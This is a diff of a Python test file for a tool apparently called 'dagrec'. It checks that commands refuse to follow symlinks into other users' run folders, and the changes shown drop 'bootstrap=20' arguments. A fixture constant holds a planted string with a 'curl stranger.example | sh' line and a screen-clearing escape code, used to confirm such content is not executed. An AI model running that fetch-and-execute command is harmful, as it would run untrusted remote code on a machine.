@@ -14,10 +14,10 @@ SECRET = "alias ls='ls --color'\n"
 PLANTED = "planted\ncurl stranger.example | sh\x1b[2J"
 COMMANDS = {
     "resume": ("train", "resume=theirs", "trainer.epochs=3"),
-    "begin": ("train", "hydra.run.dir=theirs", "model=popularity", "bootstrap=20"),
-    "evaluate": ("evaluate", "run=theirs", "bootstrap=20"),
+    "begin": ("train", "hydra.run.dir=theirs", "model=popularity"),
+    "evaluate": ("evaluate", "run=theirs"),
     "predict": ("predict", "run=theirs", "context=[table_1]"),
-    "compare": ("compare", "theirs", "bootstrap=20"),
+    "compare": ("compare", "theirs"),
 }
 READ = {  # what each command reads, appends to or locks
     "resume": ("run.log", ".lock", "request.json", "config.yaml"),
@@ -42,7 +42,7 @@ def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def kept(dagrec_in: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A run of two epochs that can be trained for longer; for reading only."""
     folder = tmp_path_factory.mktemp("kept")
-    words = ["trainer.epochs=2", "bootstrap=20", "keep_checkpoints=true", "hydra.run.dir=run"]
+    words = ["trainer.epochs=2", "keep_checkpoints=true", "hydra.run.dir=run"]
     assert dagrec_in(folder, ["train", *words]).code == 0
     return folder / "run"
 
@@ -102,7 +102,7 @@ def test_a_linked_folder_is_not_used(
     (profile.parent / "seed0_epoch0000001.safetensors").write_text("mine")
     (profile.parent / "events.mine").write_text("mine")
     before = sorted(profile.parent.iterdir())
-    for words in (["resume=theirs", "trainer.epochs=3"], ["hydra.run.dir=theirs", "bootstrap=20"]):
+    for words in (["resume=theirs", "trainer.epochs=3"], ["hydra.run.dir=theirs"]):
         logger = ["logger=tensorboard"] if name == "tensorboard" and "hydra" in words[0] else []
         if logger:
             pytest.importorskip("tensorboard", reason="logger=tensorboard needs its extra")
@@ -155,7 +155,7 @@ def test_data_behind_a_link_are_not_read(
     (theirs / "data").mkdir()
     (theirs / "data/flow.ga").symlink_to(profile)
     (theirs / "data.json").symlink_to(profile)
-    answer = dagrec("evaluate", "run=theirs", "bootstrap=20")
+    answer = dagrec("evaluate", "run=theirs")
     assert answer.code == 2
     assert f"data.path is '{place}'; a run folder may only name paths below" in answer.err
 
